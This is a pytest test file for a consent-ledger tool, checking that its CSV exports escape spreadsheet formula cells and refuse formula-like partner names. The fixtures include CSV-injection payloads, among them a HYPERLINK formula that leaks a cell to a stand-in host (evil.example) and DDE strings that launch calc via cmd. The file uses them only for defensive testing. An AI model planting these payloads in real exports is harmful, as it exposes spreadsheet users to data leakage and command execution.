"""CSV the center writes opens in a spreadsheet without running formulas: ledger exports (CLI and
console), campaign reports (CLI and console); an escaped export still verifies, JSON Lines keeps
the exact values, and a partner cannot be named like a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text

from optout.csvcells import escape, unescape
from tests.helpers.officers import console, post

EVIDENCE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'quoted",
    "-1",
    "+47 22 33 44 55",
    "plain signup form",
]
PEOPLE = [f"person{n}@example.no" for n in range(len(EVIDENCE))]


@pytest.fixture
def imported(optout, tmp_path):
    """One imported consent per evidence value above, in that order."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["email", "topic", "given_at", "evidence"])
    writer.writerows([email, "phone", "2026-05-01", evidence] for email, evidence in zip(PEOPLE, EVIDENCE, strict=True))
    path = tmp_path / "consents.csv"
    path.write_text(buffer.getvalue())
    result = optout("consent", "import", str(path))
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["recorded"] == len(EVIDENCE)


def _evidence_cells(csv_text: str) -> list[str]:
    return [row["evidence"] for row in csv.DictReader(io.StringIO(csv_text, newline=""))]


ESCAPED = [
    '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
    "'@SUM(1+1)*cmd|' /C calc'!A0",
    "''quoted",
    "'-1",
    "'+47 22 33 44 55",
    "plain signup form",
]


def test_the_ledger_export_csv_escapes_formula_cells(optout, imported):
    result = optout("export", "ledger")
    assert result.exit_code == 0, result.output
    assert _evidence_cells(result.stdout) == ESCAPED
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert all(row["created_at"][0].isdigit() and row["seq"].isdigit() for row in rows)  # dates, numbers as they are


def test_an_escaped_csv_export_still_verifies_and_a_changed_cell_does_not(optout, imported, tmp_path):
    path = tmp_path / "ledger.csv"
    assert optout("export", "ledger", "--output", str(path)).exit_code == 0
    verified = optout("ledger", "verify", "--file", str(path))
    assert verified.exit_code == 0, verified.output
    assert f"intact: {len(EVIDENCE)} events" in verified.output
    path.write_text(path.read_text().replace("''quoted", "'quoted", 1))  # one quote less: another value
    assert optout("ledger", "verify", "--file", str(path)).exit_code == 1


def test_the_json_lines_export_keeps_the_exact_evidence(optout, imported, tmp_path):
    result = optout("export", "ledger", "--format", "jsonl")
    assert [json.loads(line)["evidence"] for line in result.stdout.splitlines()] == EVIDENCE
    path = tmp_path / "ledger.jsonl"
    path.write_text(result.stdout)
    assert optout("ledger", "verify", "--file", str(path)).exit_code == 0


def test_the_consoles_ledger_export_escapes_too(signed_in, imported):
    response = post(signed_in, "/exports", {"format": "csv", "topic": "", "partner": "", "campaign": ""})
    assert response.status_code == 200
    assert _evidence_cells(response.text) == ESCAPED


@pytest.fixture
def formula_partner(app, make_campaign):
    """A partner campaign whose partner's name (from before names were checked) looks like a formula."""
    make_campaign("bolt-spring", partner="bolt")
    with app.extensions["optout.db"].engine.begin() as conn:
        conn.execute(text("UPDATE partner SET name = :name WHERE slug = 'bolt'"), {"name": '=cmd|" /C calc"!A0'})


def _partner_cell(csv_text: str) -> str:
    rows = list(csv.reader(io.StringIO(csv_text, newline="")))
    return next(value for section, name, value in rows if (section, name) == ("campaign", "partner"))


def test_campaign_reports_escape_the_partners_name(optout, signed_in, formula_partner):
    cli = optout("report", "campaign", "bolt-spring", "--format", "csv")
    assert cli.exit_code == 0, cli.output
    assert _partner_cell(cli.stdout) == '\'=cmd|" /C calc"!A0'
    download = signed_in.get(console("/campaigns/bolt-spring/report.csv"))
    assert _partner_cell(download.text) == '\'=cmd|" /C calc"!A0'
    report = json.loads(optout("report", "campaign", "bolt-spring").stdout)
    assert report["partner"] == '=cmd|" /C calc"!A0'  # JSON is exact


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "+Acme", "-Acme", "@Acme", " =Acme"])
def test_a_partner_named_like_a_formula_is_refused(optout, name):
    result = optout("partner", "add", "acme", "--name", name)
    assert result.exit_code == 1
    assert "cannot start with" in result.output and "formula" in result.output
    assert optout("partner", "list").stdout == ""


def test_a_partner_name_with_such_a_character_inside_is_fine(optout):
    result = optout("partner", "add", "acme", "--name", "Acme = Best AS")
    assert result.exit_code == 0, result.output


@given(st.text())
def test_unescape_undoes_escape_for_any_text(value):
    assert unescape(str(escape(value))) == value
